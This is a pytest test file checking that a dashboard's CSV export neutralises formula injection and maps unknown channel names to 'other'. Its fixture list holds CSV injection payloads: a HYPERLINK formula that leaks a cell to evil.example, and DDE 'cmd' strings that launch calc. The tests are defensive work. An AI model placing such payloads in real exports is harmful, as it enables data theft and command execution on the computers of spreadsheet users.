"""CSV formula injection through the dashboard export (issue #16, finding 6): a channel name
or an item name that starts with = + - @ TAB or CR must never reach a spreadsheet as a formula,
and ingestion keeps only the channel names the project has."""
from __future__ import annotations

import csv
import io
from datetime import date

import pytest

from console import dashboard
from console.analytics import queries
from console.analytics.ingest import Ingestor
from console.analytics.queries import DayRange
from knowledge.db import get_engine, session_factory
from tests.console.analytics_fixtures import D1, EventLog, Talk, at, guide

ALL_DAYS = DayRange(date(2026, 11, 19), date(2026, 11, 23))
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点这里")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def exported(tmp_path) -> tuple[dict, list[list[str]]]:
    log = EventLog(tmp_path / "events.db")
    for index, formula in enumerate(FORMULAS):
        talk = Talk(log, f"attacker-{index}", formula, at(D1, 9 + index)).session()
        talk.user("开公司", "ask_overview", 0.9).bot(100, guide(f"500B99000100{index:02d}", formula))
    Talk(log, "citizen", "wechat", at(D1, 20)).session().user("开公司", "ask_overview", 0.9).bot(
        100, guide("500A4100020000", "有限责任公司设立登记"))
    log.close()
    sessions = session_factory(get_engine(f"sqlite:///{tmp_path / 'catalog.db'}"))
    Ingestor(sessions, log.url).run(max_batches=5)
    with sessions() as session:
        data = queries.dashboard(session, ALL_DAYS)
    dashboard.label_rows(data)
    text = dashboard.csv_text(data)
    return data, list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def test_csv_export_formula_injection_neutralised(exported):
    _data, rows = exported
    cells = [cell for row in rows for cell in row]
    dangerous = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not dangerous, dangerous
    # The item names are still there, readable, as text.
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert any(cell.startswith("有限责任公司设立登记") for cell in cells)


def test_unknown_channel_names_are_counted_as_other_at_ingest(exported):
    data, rows = exported
    channels = {row["channel"]: row for row in data["by_channel"]}
    assert set(channels) == {"wechat", "other"}
    assert channels["other"]["turns"] == len(FORMULAS) and channels["other"]["label"] == "其他"
    assert not any("HYPERLINK" in cell for row in rows if row[0].startswith("渠道") for cell in row)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("出生登记", "出生登记"), ("2026-11-20", "2026-11-20"), ("", ""), (12, 12), (-3, -3), (None, None),
])
def test_only_text_cells_that_start_a_formula_are_prefixed(value, expected):
    assert dashboard.safe_cell(value) == expected
